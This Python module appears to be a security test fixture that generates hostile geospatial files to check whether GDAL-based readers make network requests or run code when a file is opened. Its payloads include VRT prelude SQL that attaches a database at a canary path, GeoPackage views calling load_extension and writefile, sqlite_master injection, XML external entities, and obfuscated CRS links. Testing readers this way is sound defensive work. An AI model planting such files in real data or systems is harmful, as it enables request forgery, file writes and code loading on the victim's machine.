"""Layers that reach out."""

from __future__ import annotations

import json
import sqlite3
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import geopandas as gpd
import shapely

from hostile.place import Place

Vector = Callable[[Place], str]
FEATURES: dict[str, Any] = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "properties": {"a": 1},
            "geometry": {"type": "Point", "coordinates": [118.0, 30.0]},
        }
    ],
}
ENDINGS = (
    *(".vrt", ".ovf", ".xml", ".gml", ".kml", ".gpx", ".json", ".geojson", ".gpkg", ".shp", ".fgb"),
    *(".tab", ".mif", ".dbf", ".csv", ".kmz", ".rss", ".dat", "", ".gdb", ".parquet", ".geojsonl"),
)


def points() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(118.0, 30.0)], crs=4326)


def virtual(place: Place) -> str:
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="a">'
        f"<SrcDataSource>{place.curl('.geojson')}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
    )


def prelude(place: Place) -> str:
    """A virtual layer that makes a database when it is opened."""
    points().to_file(place.folder / "base.gpkg", layer="a")
    return (
        '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource relativeToVRT="1">base.gpkg'
        '</SrcDataSource><OpenOptions><OOI key="PRELUDE_STATEMENTS">'
        f"ATTACH DATABASE '{place.canary}/stolen.db' AS x; CREATE TABLE x.t(a)</OOI></OpenOptions>"
        "<SrcLayer>a</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
    )


def wfs(place: Place) -> str:
    return f"<OGRWFSDataSource><URL>{place.url('?')}</URL></OGRWFSDataSource>"


def csw(place: Place) -> str:
    return f"<OGRCSWDataSource><URL>{place.url('?')}</URL></OGRCSWDataSource>"


def service(place: Place) -> str:
    links = [{"rel": rel, "href": place.url("")} for rel in ("service-desc", "data", "conformance")]
    return json.dumps({"links": links, "collections": []})


def command(place: Place) -> str:
    return json.dumps(
        {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal vector pipeline ! read {place.curl('.gpkg')}",
        }
    )


DESCRIPTIONS = {
    "virtual layer": virtual,
    "virtual layer with a prelude": prelude,
    "feature service": wfs,
    "catalogue service": csw,
    "service of features": service,
    "command": command,
}


def called(write: Callable[[Place], str], ending: str, place: Place) -> str:
    return place.write(f"t{ending}", write(place))


def behind(write: Callable[[Place], str], beginning: str, ending: str, place: Place) -> str:
    """A description behind the bytes of a format."""
    return place.write(f"t{ending}", beginning + write(place))


def packed(write: Callable[[Place], str], member: str, place: Place) -> str:
    path = place.folder / "t.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(member, write(place))
    return str(path)


def twice(place: Place) -> str:
    """Two members of one name, of which each program takes its own choice."""
    path = place.folder / "t.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("a.geojson", virtual(place))
        archive.writestr("a.geojson", json.dumps(FEATURES))
    return str(path)


def system(crs: Any, place: Place) -> str:
    return json.dumps({**FEATURES, "crs": crs(place)})


def link(place: Place) -> dict[str, Any]:
    return {"type": "link", "properties": {"href": place.url("")}}


def letters(name: str, kind: str, place: Place) -> str:
    """The member of a link in other letters."""
    return (
        json.dumps(FEATURES)[:-1]
        + f', "{name}" : {{"{kind}":"LINK","properties":{{"href":"{place.url("")}"}}}}}}'
    )


SYSTEMS: dict[str, Callable[[Place], str]] = {
    "link": partial(system, link),
    "URL": partial(system, lambda p: {"type": "URL", "properties": {"url": p.url("")}}),
    "name of an address": partial(
        system, lambda p: {"type": "name", "properties": {"name": p.url("")}}
    ),
    "link in capitals": partial(letters, "CRS", "TYPE"),
    "link in escapes": partial(letters, "\\u0063\\u0072\\u0053", "type"),
    "type in escapes": partial(letters, "crs", "\\u0074ype"),
    "link, then name": partial(letters, "crs", 'type":"name", "type'),
    "name, then link": partial(letters, "crs", 'Type":"name", "type'),
    "link behind 2 MB": lambda p: (
        json.dumps(FEATURES)[:-1] + " " * 2_000_000 + ',"crs":' + json.dumps(link(p)) + "}"
    ),
    "ESRI JSON": lambda p: json.dumps(
        {
            "geometryType": "esriGeometryPoint",
            "spatialReference": {"wkt": p.url("")},
            "fields": [],
            "features": [{"attributes": {"a": 1}, "geometry": {"x": 1, "y": 2}}],
        }
    ),
    "JSON-FG": lambda p: json.dumps(
        {
            "conformsTo": ["http://www.opengis.net/spec/json-fg-1/0.2/conf/core"],
            "coordRefSys": p.url(""),
            **FEATURES,
        }
    ),
    "virtual layer in a text": lambda p: json.dumps({"x": virtual(p), **FEATURES}),
    "prelude in a text": lambda p: json.dumps({"x": prelude(p).replace('"', "'"), **FEATURES}),
    "command behind text": lambda p: json.dumps({"x": "y" * 300, **json.loads(command(p))}),
}


def gml(place: Place, *, location: str = "", srs: str = "EPSG:4326", more: str = "") -> str:
    at = f' xsi:schemaLocation="{location}"' if location else ""
    return (
        '<?xml version="1.0"?><wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" '
        'xmlns:t="http://t" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"{at}>{more}<gml:featureMember><t:a>'
        f'<t:r xlink:href="{place.url("")}#a"/><t:g><gml:Point srsName="{srs}"><gml:coordinates>'
        "118,30</gml:coordinates></gml:Point></t:g></t:a></gml:featureMember>"
        "</wfs:FeatureCollection>"
    )


def describe(place: Place) -> str:
    return (
        f"http://t {place.url('')}?SERVICE=WFS&amp;VERSION=1.0.0&amp;"
        "REQUEST=DescribeFeatureType&amp;typeName=t:a"
    )


def gml_with_schema(place: Place) -> str:
    """Its schema is beside it, and imports one that is not."""
    place.write(
        "t.xsd",
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" targetNamespace="http://t">'
        f'<xs:import namespace="http://u" schemaLocation="{place.url(".xsd")}"/>'
        f'<xs:include schemaLocation="{place.url(".xsd")}"/></xs:schema>',
    )
    return place.write("t.gml", gml(place, location="http://t t.xsd"))


def gml_with_types(place: Place) -> str:
    """The types of its columns are beside it, with a system by address."""
    place.write(
        "t.gfs",
        "<GMLFeatureClassList><GMLFeatureClass><Name>a</Name><ElementPath>a</ElementPath>"
        f"<SRSName>{place.url('')}</SRSName></GMLFeatureClass></GMLFeatureClassList>",
    )
    return place.write("t.gml", gml(place))


def kml(place: Place, head: str = "") -> str:
    return (
        f'{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>'
        f"{place.url('.kml')}</href></Link></NetworkLink><Placemark><styleUrl>{place.url('.kml')}#s"
        "</styleUrl><Point><coordinates>118,30</coordinates></Point></Placemark></Document></kml>"
    )


def geopackage(place: Place, *statements: str) -> str:
    path = place.folder / "t.gpkg"
    points().to_file(path, layer="t")
    with sqlite3.connect(path) as base:
        for one in statements:
            base.execute(one)
    base.close()
    return str(path)


LISTED = (
    "insert into gpkg_contents(table_name, data_type, identifier, srs_id) "
    "values ('v', 'attributes', 'v', 4326)"
)


def with_view(select: str, place: Place) -> str:
    return geopackage(place, f"create view v as {select}", LISTED)


def with_module(place: Place) -> str:
    path = geopackage(place, LISTED)
    with sqlite3.connect(path) as base:
        base.execute("pragma writable_schema = on")
        base.execute(
            "insert into sqlite_master(type, name, tbl_name, rootpage, sql) "
            "values ('table', 'v', 'v', 0, ?)",
            (f"CREATE VIRTUAL TABLE v USING VirtualOGR('{place.curl('.geojson')}')",),
        )
    base.close()
    return path


def with_system(place: Place) -> str:
    return geopackage(
        place,
        f"update gpkg_spatial_ref_sys set definition = '{place.url('')}', organization = 'x', "
        "organization_coordsys_id = 99999 where srs_id = 4326",
    )


def in_wal(place: Place) -> str:
    """A package whose reading may leave files beside it."""
    path = geopackage(place)
    base = sqlite3.connect(path)
    base.execute("pragma journal_mode = wal")
    base.execute("create table more(a)")
    base.commit()
    base.close()
    return path


def shapefile(place: Place, system: str) -> str:
    path = place.folder / "t.shp"
    points().to_file(path)
    path.with_suffix(".prj").write_text(system)
    return str(path)


def tables(place: Place) -> str:
    """A view of tables by name."""
    return place.write(
        "t.tab",
        f'!Table\n!Version 100\nOpen Table "{place.curl(".tab")}" Hide\n'
        f'Open Table "{place.curl(".tab")}" Hide\nCreate View t As\nSelect a,b\nFrom a, b\n'
        "Where a.x=b.x\n",
    )


def seamless(place: Place) -> str:
    """A table of tables."""
    frame = points().assign(Table=[place.curl(".tab")])
    path = place.folder / "t.tab"
    frame.to_file(path, driver="MapInfo File", bounds="117,29,119,31")
    path.write_text(
        path.read_text("latin-1") + 'begin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n'
    )
    return str(path)


def curves(place: Place) -> str:
    return place.write(
        "t.csv",
        'id,WKT\n1,"CIRCULARSTRING (118 30, 118.1 30.1, 118.2 30)"\n'
        f'2,"{virtual(place).replace(chr(34), chr(39))}"\n',
    )


def geodatabase(write: Callable[[Place], str], name: str, place: Place) -> str:
    """A folder of the name of a geodatabase that holds a table of another kind."""
    place.write(f"t.gdb/{name}", Path(write(place)).read_bytes())
    place.write("t.gdb/a00000001.gdbtable", b"")
    return str(place.folder / "t.gdb")


LAYERS: dict[str, Vector] = {
    **{f"{kind} as {ending or 'no ending'}": partial(called, write, ending)
       for kind, write in DESCRIPTIONS.items() for ending in ENDINGS},
    **{f"{kind} in a {member}": partial(packed, write, member)
       for kind, write in DESCRIPTIONS.items()
       for member in ("a.gpkg", "a.geojson", "a.kml", "a.gml", "a.shp", "a.fgb", "a.csv", "a.tab")},
    **{f"{kind} behind {ending}": partial(behind, write, beginning, ending)
       for kind, write in DESCRIPTIONS.items()
       for beginning, ending in (
           ("fgb", ".fgb"), ("SQLite format 3", ".gpkg"), ("<!-- <kml> -->", ".kml"),
           ("<?xml version='1.0'?><!-- opengis.net/gml -->", ".gml"),
           ("!table\ntype native\n", ".tab"),
           ("<kml>", ".kml"), ("PK", ".kmz"), ("version 300\n", ".mif"), (" " * 2_000_000, ".xml"),
           ("<!--" + "x" * 2_000_000 + "-->", ".kml"))},
    **{f"GeoJSON, {kind}": partial(lambda one, place: place.write("t.geojson", one(place)), write)
       for kind, write in SYSTEMS.items()},
    **{f"JSON, {kind}": partial(lambda one, place: place.write("t.json", one(place)), write)
       for kind, write in SYSTEMS.items()},
    **{f"packed GeoJSON, {kind}": partial(packed, write, "a/t.geojson")
       for kind, write in SYSTEMS.items()},
    "lines of GeoJSON, link": lambda p: p.write(
        "t.geojsonl", json.dumps({**FEATURES["features"][0], "crs": link(p)})
    ),
    "GML, schema": lambda p: p.write("t.gml", gml(p, location=describe(p))),
    "GML, schema file": lambda p: p.write("t.gml", gml(p, location=f"http://t {p.url('.xsd')}")),
    "GML, schema of a network file": lambda p: p.write(
        "t.gml", gml(p, location=f"http://t {p.curl('.xsd')}")
    ),
    "GML, system": lambda p: p.write("t.gml", gml(p, srs=p.url(""))),
    "GML, packed schema": lambda p: packed(
        lambda q: gml(q, location=describe(q)), "t.gml", p
    ),
    "GML, schema that imports": gml_with_schema,
    "GML, types beside": gml_with_types,
    "KML, links": lambda p: p.write("t.kml", kml(p)),
    "KML, entity": lambda p: p.write(
        "t.kml", kml(p, f'<!DOCTYPE kml [<!ENTITY % a SYSTEM "{p.url(".dtd")}"> %a;]>')
    ),
    "KML, entity behind 2 MB": lambda p: p.write(
        "t.kml", kml(p, f'<!--{"x" * 2_000_000}--><!DOCTYPE kml SYSTEM "{p.url(".dtd")}">')
    ),
    "KMZ, links": lambda p: packed(kml, "doc.kml", p).replace("t.zip", "t.zip"),
    "package, view that asks a service": partial(
        with_view, "select fid, ogr_geocode('Paris', 'geometry') as g from t"
    ),
    "package, view that loads code": partial(
        with_view, "select 1 as fid, load_extension('/tmp/x') as g"
    ),
    "package, view that writes": partial(with_view, "select 1 as fid, writefile('x', 'y') as g"),
    "package, virtual table": with_module,
    "package, system": with_system,
    "package with a log": in_wal,
    "Shapefile, system": lambda p: shapefile(p, p.url("")),
    "MapInfo, view": tables,
    "MapInfo, seamless": seamless,
    "table with curves": curves,
    "geodatabase with a view of tables": partial(geodatabase, tables, "b.tab"),
    "archive with two of one name": twice,
    **{f"by name, {kind}": one for kind, one in {
        "network file": lambda p: p.curl(".geojson"),
        "address": lambda p: p.url(".geojson"),
        "archive": lambda p: f"/vsizip/{{{p.curl('.zip')}}}/a.geojson",
        "archive, folded": lambda p: f"/vsizip/vsicurl/{p.url('.zip')}/a.geojson",
        "tar": lambda p: f"/vsitar/{p.curl('.tar')}/a.geojson",
        "service": lambda p: f"WFS:{p.url('')}",
        "service of features": lambda p: f"OAPIF:{p.url('')}",
        "format": lambda p: f"GeoJSON:{p.url('.geojson')}",
        "virtual layer": virtual,
        "command": command,
    }.items()},
}  # fmt: skip
